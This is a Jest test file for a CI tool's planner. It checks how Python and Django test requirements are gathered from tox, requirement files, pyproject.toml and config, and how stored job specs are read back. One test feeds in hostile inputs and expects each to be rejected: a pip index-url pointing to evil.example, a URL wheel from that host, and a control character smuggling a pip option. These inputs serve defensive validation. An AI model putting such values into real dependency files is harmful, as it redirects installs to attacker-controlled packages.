import { describe, expect, it } from "@jest/globals";
import { planMatrix } from "../../src/builds/plan-matrix.js";
import { planJobSpec } from "../../src/builds/plan-job-spec.js";
import { jobSpecOf, LEGACY_REQUIREMENTS_NOTE, storeJobPlan } from "../../src/builds/job-plan.js";
import type { JobRecord } from "../../src/store/job-rows.js";

const reader = (files: Readonly<Record<string, string | undefined>>) => (path: string) => files[path];
const tox = "[tox]\nenvlist = py311-django{42,52}\n[testenv]\ndeps =\n    django42: django-filter<24\n    pytest\n";
const cell = { python: "3.11", django: "4.2" };
const noCommands = "tox env py311-django42 has no commands: Pony CI detects the test command itself";

describe("planJobSpec", () => {
  it.each([
    {
      name: "no settings and no requirement files: nothing besides Django, runner's timeout, harness's command",
      files: {},
      spec: { cell, environment: { python: "3.11", django: "4.2", requirements: [] }, env: {}, command: undefined, onlyTests: undefined, timeoutSec: undefined },
    },
    {
      name: "tox deps of the cell, re-serialised",
      files: { "tox.ini": tox },
      spec: { cell, environment: { python: "3.11", django: "4.2", requirements: ["django-filter<24", "pytest"], sources: ["extra deps"] }, env: {}, command: undefined, onlyTests: undefined, timeoutSec: undefined, notes: [noCommands] },
    },
    {
      name: "config install replaces detection and tox deps, its -r expanded at planning; config test, env and timeout",
      files: { "tox.ini": tox, "requirements.txt": "ignored\n", "req.txt": "# pinned\nFactory_Boy >= 3\n-r more/extra.txt\n", "more/extra.txt": "pytest-django\n", ".github/ponyci.yml": 'python: ["3.11"]\ndjango: ["4.2"]\ninstall: ["-r req.txt", "coverage"]\ntest: "pytest -x"\nenv: {A: "1"}\ntimeout: 60\n' },
      spec: { cell, environment: { python: "3.11", django: "4.2", requirements: ["coverage", "factory-boy>=3", "pytest-django"], sources: ["config install"] }, env: { A: "1" }, command: "pytest -x", onlyTests: undefined, timeoutSec: 60, notes: [noCommands] },
    },
  ])("$name", ({ files, spec }) => {
    expect(planJobSpec(planMatrix(reader(files)), cell)).toEqual(spec);
  });

  it("decides the complete list on the host: requirement files, the test extras of pyproject.toml and setup.cfg, tox deps; Django and -e . left out", () => {
    const files = {
      "tox.ini": tox,
      "requirements.txt": "Django>=4\nrequests==2.*\n-r requirements/base.txt\n",
      "requirements/base.txt": "sqlparse\n",
      "requirements-test.txt": "-e .\nfactory-boy\n-c constraints.txt\n",
      "constraints.txt": "urllib3<3\n",
      "pyproject.toml": '[project]\nname = "app"\ndependencies = ["attrs"]\n[project.optional-dependencies]\ntest = ["pytest>=8"]\ndocs = ["sphinx"]\n',
      "setup.cfg": "[options.extras_require]\ntests =\n    freezegun\n",
    };
    const { environment, notes } = planJobSpec(planMatrix(reader(files)), cell);
    expect(environment.requirements).toEqual(["attrs", "django-filter<24", "factory-boy", "freezegun", "pytest", "pytest>=8", "requests==2.*", "sqlparse"]);
    expect(environment.constraints).toEqual(["urllib3<3"]);
    expect(environment.sources).toEqual(["requirements.txt", "requirements-test.txt", "pyproject.toml [project] dependencies", "pyproject.toml extra [test]", "setup.cfg extra [tests]", "extra deps"]);
    expect(environment.requirementNotes).toEqual([expect.stringContaining("Django>=4"), expect.stringContaining("the checkout itself")]);
    expect(environment).not.toHaveProperty("detectRequirements");
    expect(notes).toEqual([noCommands]);
  });

  it("with tox's skip_install only the env's deps are installed, as tox does", () => {
    const files = { "tox.ini": "[tox]\nenvlist = py311-django42\n[testenv]\nskip_install = true\ndeps = flake8\ncommands = flake8\n", "requirements.txt": "requests\n" };
    expect(planJobSpec(planMatrix(reader(files)), cell).environment.requirements).toEqual(["flake8"]);
  });

  it.each([
    { name: "a pip option in an included file", files: { "requirements.txt": "-r dev/more.txt\n", "dev/more.txt": "ok\n--index-url https://evil.example/simple\n" }, file: "dev/more.txt", line: 2 },
    { name: "a URL in the config's install", files: { ".github/ponyci.yml": 'install: ["ok", "evil @ https://evil.example/evil.whl"]\n' }, file: ".github/ponyci.yml", line: 2 },
    { name: "a control character in pyproject.toml's test extra", files: { "pyproject.toml": '[project]\nname = "a"\n[project.optional-dependencies]\ntest = ["ok\\u001c--no-binary=x"]\n' }, file: "pyproject.toml", line: 4 },
  ])("$name is a config error at planning, naming file and line", ({ files, file, line }) => {
    const plan = planMatrix(reader(files));
    expect(() => planJobSpec(plan, { python: plan.cells[0]?.python ?? "3.11", django: plan.cells[0]?.django ?? "4.2" })).toThrow(expect.objectContaining({ name: "RepoConfigError", file, line }));
  });

  it("says which line of pyproject.toml is not TOML when it needs the tox deps from there", () => {
    const plan = planMatrix(reader({ ".github/ponyci.yml": 'python: ["3.11"]\ndjango: ["4.2"]\n', "pyproject.toml": "[tool.tox]\nlegacy_tox_ini = \"\"\"\n" }));
    expect(() => planJobSpec(plan, cell)).toThrow(expect.objectContaining({ name: "RepoConfigError", file: "pyproject.toml" }));
  });

  it("carries the tests of a re-run", () => {
    expect(planJobSpec(planMatrix(reader({})), cell, { onlyTests: ["a.T.test_x"] }).onlyTests).toEqual(["a.T.test_x"]);
  });
});

describe("jobSpecOf", () => {
  const record = (external: Record<string, unknown>) => ({ id: "1-1", buildId: 1, seq: 1, cell, state: "queued", attempts: 0, external, createdAt: 0 }) as JobRecord;

  it("reads back what the planner stored", () => {
    const spec = planJobSpec(planMatrix(reader({ "tox.ini": tox })), cell, { onlyTests: ["t"] });
    const stored = JSON.parse(JSON.stringify(storeJobPlan(spec, "0-1"))) as Record<string, unknown>;
    expect(stored).not.toHaveProperty("cell");
    expect(stored.rerunOf).toBe("0-1");
    expect(jobSpecOf(record(stored))).toEqual(JSON.parse(JSON.stringify(spec)));
  });

  it("reads back `ponyci run … -- ARGS` left for the harness (the queue's job carries what the CLI asked)", () => {
    const spec = planJobSpec(planMatrix(reader({})), cell, { posargs: ["polls.tests.T.test_one", "-v", "2"] });
    const stored = JSON.parse(JSON.stringify(storeJobPlan(spec))) as Record<string, unknown>;
    expect(jobSpecOf(record(stored)).posargs).toEqual(["polls.tests.T.test_one", "-v", "2"]);
    expect(jobSpecOf(record(stored))).toEqual(JSON.parse(JSON.stringify(spec)));
  });

  it.each([
    { name: "install and extra deps", external: { testCommand: "pytest", install: ["x"], extraDeps: ["y"], env: { A: "1" }, timeoutSec: 5 }, requirements: ["x", "y"], legacy: false },
    { name: "install with an include", external: { install: ["-r req.txt", "x"] }, requirements: ["x"], legacy: true },
    { name: "extra deps only", external: { extraDeps: ["y"] }, requirements: ["y"], legacy: true },
    { name: "nothing", external: {}, requirements: [], legacy: true },
  ])("reads jobs queued by older versions: $name (runner-side detection is gone: the summary says what was not installed)", ({ external, requirements, legacy }) => {
    const spec = jobSpecOf(record(external));
    expect(spec.environment).toEqual({ python: "3.11", django: "4.2", requirements });
    expect(spec.notes).toEqual(legacy ? [LEGACY_REQUIREMENTS_NOTE] : undefined);
    expect(spec.command).toBe((external as { testCommand?: string }).testCommand);
    expect(spec.env).toEqual((external as { env?: object }).env ?? {});
  });
});

describe("jobSpecOf of job specs stored while the runner still detected requirements", () => {
  const record = (external: Record<string, unknown>) => ({ id: "1-1", buildId: 1, seq: 1, cell, state: "queued", attempts: 0, external, createdAt: 0 }) as JobRecord;
  it.each([
    { name: "detection on", environment: { python: "3.11", django: "4.2", requirements: ["pytest"], detectRequirements: true }, requirements: ["pytest"], legacy: true },
    { name: "install with -r", environment: { python: "3.11", django: "4.2", requirements: ["-r req.txt", "x"], detectRequirements: false }, requirements: ["x"], legacy: true },
    { name: "install of specs only: complete as stored", environment: { python: "3.11", django: "4.2", requirements: ["x"], detectRequirements: false }, requirements: ["x"], legacy: false },
  ])("$name", ({ environment, requirements, legacy }) => {
    const spec = jobSpecOf(record({ environment, env: {}, notes: ["n"] }));
    expect(spec.environment).toEqual({ python: "3.11", django: "4.2", requirements });
    expect(spec.notes).toEqual(legacy ? ["n", LEGACY_REQUIREMENTS_NOTE] : ["n"]);
  });
});
